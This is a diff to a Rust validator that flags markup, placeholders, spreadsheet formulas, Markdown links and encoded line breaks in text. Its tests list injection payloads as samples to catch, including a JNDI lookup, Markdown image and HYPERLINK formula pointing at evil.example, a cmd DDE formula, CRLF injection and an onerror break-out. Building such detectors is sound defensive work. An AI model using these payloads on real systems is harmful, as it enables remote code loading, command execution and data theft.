@@ -26,6 +26,9 @@ const REFERENCES: [&str; 21] = [
     "zwnj",
 ];
 
+/// The most letters of such a name.
+const LONGEST_REFERENCE: usize = 14;
+
 /// Attributes, beside all that begin with `on`, by which a page runs or fetches something.
 const ATTRIBUTES: [&str; 6] = ["style", "src", "srcdoc", "href", "formaction", "srcset"];
 
@@ -36,18 +39,29 @@ const RUNNING: [&str; 3] = ["javascript:", "vbscript:", "livescript:"];
 const DOCUMENTS: [&str; 5] =
     ["data:text/html", "data:text/javascript", "data:text/xml", "data:application/", "data:image/svg"];
 
-/// What of the text a page would not show as text: the end of a sentence that begins with the text. Whoever asks has bounded it: what follows each
-/// quote is looked through.
+/// What other programs put something else in the place of: Keycloak's consent page `${client_account}`, loggers `${jndi:…}`, templates `{{7*7}}`.
+const PLACEHOLDERS: [&str; 3] = ["${", "#{", "{{"];
+
+/// What of the text a page would not show as text: the end of a sentence that begins with the text.
 pub(super) fn problem(text: &str) -> Option<&'static str> {
+    if holds_a_handler(text) {
+        return Some("holds markup (an attribute behind a quote)");
+    }
+    if PLACEHOLDERS.iter().any(|begin| text.contains(begin)) {
+        return Some("holds a placeholder (${…}, #{…}, {{…}})");
+    }
+    if begins_a_formula(text) {
+        return Some("begins as a formula of a spreadsheet");
+    }
+    if text.contains("](http") {
+        return Some("holds markup (a link of Markdown)");
+    }
     for (at, character) in text.char_indices() {
         let (before, rest) = (text[..at].chars().next_back(), &text[at + character.len_utf8()..]);
         let found = match character {
             '<' if begins_a_tag(rest) => Some("holds markup (<)"),
-            '%' if rest.get(..2).is_some_and(|code| code.eq_ignore_ascii_case("3c")) && begins_a_tag(&rest[2..]) => {
-                Some("holds markup (%3C)")
-            }
+            '%' => encoded(rest),
             '&' => reference(rest),
-            '"' | '\'' | '`' if ends_an_attribute(rest) => Some("holds markup (an attribute behind a quote)"),
             _ if before.is_none_or(|before| !before.is_ascii_alphanumeric()) && runs(&text[at..]) => {
                 Some("holds a URL that runs code")
             }
@@ -60,8 +74,24 @@ pub(super) fn problem(text: &str) -> Option<&'static str> {
     None
 }
 
+/// What follows `%`, when it is a line break, or begins a tag.
+fn encoded(rest: &str) -> Option<&'static str> {
+    let code = rest.get(..2)?.to_ascii_lowercase();
+    match code.as_str() {
+        "3c" if begins_a_tag(&rest[2..]) => Some("holds markup (%3C)"),
+        "0a" | "0d" => Some("holds a line break (%0A)"),
+        _ => None,
+    }
+}
+
+/// Whether a spreadsheet that opens a list of names would compute it: `=HYPERLINK(…)`, `+cmd|…`.
+fn begins_a_formula(text: &str) -> bool {
+    let calls = text.starts_with('=') && text.contains(['(', '!']);
+    calls || (text.starts_with(['=', '+', '-', '@']) && text.contains('|'))
+}
+
 fn begins_a_tag(rest: &str) -> bool {
-    rest.starts_with(|next: char| next.is_ascii_alphabetic() || "/!?".contains(next))
+    rest.starts_with(|next: char| next.is_ascii_alphabetic() || "/!?%".contains(next))
 }
 
 /// What follows `&`, when it is a character by its number or its name: a page shows another name. `&amp;lt;` is one that was escaped.
@@ -74,22 +104,31 @@ fn reference(rest: &str) -> Option<&'static str> {
         let number = number.strip_prefix(['x', 'X']).unwrap_or(number);
         return number.starts_with(|digit: char| digit.is_ascii_hexdigit()).then_some("holds markup (&#)");
     }
-    let (name, _) = rest.split_once(';')?;
+    // Of old the semicolon may be missing; `&ltd` is a company's.
+    if rest.get(..2).is_some_and(|name| matches!(name, "lt" | "LT")) && begins_a_tag(&rest[2..]) && rest != "ltd" {
+        return Some("holds markup (&lt)");
+    }
+    let name = rest.get(..rest.bytes().take(LONGEST_REFERENCE + 1).position(|byte| byte == b';')?)?;
     REFERENCES.iter().any(|known| known.eq_ignore_ascii_case(name)).then_some("holds markup (&…;)")
 }
 
-/// Whether an attribute that runs something stands behind a quote, at once or behind other attributes.
-fn ends_an_attribute(rest: &str) -> bool {
+/// Whether an attribute that runs something stands behind a quote, at once or behind other attributes: `' onload=x`.
+pub(super) fn holds_a_handler(text: &str) -> bool {
+    let is_quote = |character: char| matches!(character, '"' | '\'' | '`');
     let parts = |character: char| character.is_whitespace() || character == '/';
-    let is_apart = rest.starts_with(parts);
-    rest.match_indices('=').any(|(at, _)| {
-        let before = rest[..at].trim_end();
-        let begin = before
-            .rfind(|c: char| !c.is_ascii_alphabetic())
-            .map_or(0, |last| last + before[last..].chars().next().map_or(1, char::len_utf8));
-        let name = before[begin..].to_ascii_lowercase();
-        // A word of its own: at the quote, or behind a space when the quote has one behind it, too.
-        let stands_alone = begin == 0 || is_apart && before[..begin].ends_with(parts);
+    let mut quotes = text.match_indices(is_quote).peekable();
+    // Whether a quote had something behind it that sets a word apart.
+    let mut is_apart = false;
+    text.match_indices('=').any(|(at, _)| {
+        while let Some((quote, _)) = quotes.next_if(|(quote, _)| *quote < at) {
+            is_apart |= text[quote + 1..at].starts_with(parts);
+        }
+        let before = text[..at].trim_end();
+        let name = &before[before.trim_end_matches(|c: char| c.is_ascii_alphabetic()).len()..];
+        let in_front = before[..before.len() - name.len()].chars().next_back();
+        // A word of its own: at a quote, or behind a space when a quote has one behind it, too.
+        let stands_alone = in_front.is_some_and(|c| is_quote(c) || is_apart && parts(c));
+        let name = name.to_ascii_lowercase();
         let is_handler = name.len() > 4 && name.starts_with("on");
         stands_alone && (is_handler || ATTRIBUTES.contains(&name.as_str()))
     })
@@ -141,9 +180,21 @@ mod tests {
             "metadata:text/html",
             "50%3C",
             "CN=\"Acme, Inc.\",O=x",
+            "Smith &ltd",
+            "@acme/client (beta)",
+            "C# {beta}",
+            "= Orders",
+            "100% organic",
+            "[beta] Orders (https://orders.example)",
         ] {
             assert_eq!(problem(text), None, "{text}");
         }
+    }
+
+    #[test]
+    fn a_text_of_quotes_alone_is_looked_through_once() {
+        let text = "'".repeat(200_000) + &"=".repeat(200_000);
+        assert_eq!(problem(&text), None);
     }
 
     #[test]
@@ -180,6 +231,17 @@ mod tests {
             "vbscript:msgbox",
             "data:text/html,x",
             "x (DATA:text/html;base64,PHNjcmlwdD4=)",
+            "&ltscript>",
+            "<%= x %>",
+            "${client_account}",
+            "${jndi:ldap://evil.example/x}",
+            "{{7*7}}",
+            "=HYPERLINK(\"https://evil.example\")",
+            "=cmd|' /C calc'!A0",
+            "+cmd|x",
+            "Orders%0d%0aX: y",
+            "![x](https://evil.example/x.png)",
+            "'onerror=alert(1)//",
         ] {
             assert!(problem(text).is_some(), "{text}");
         }
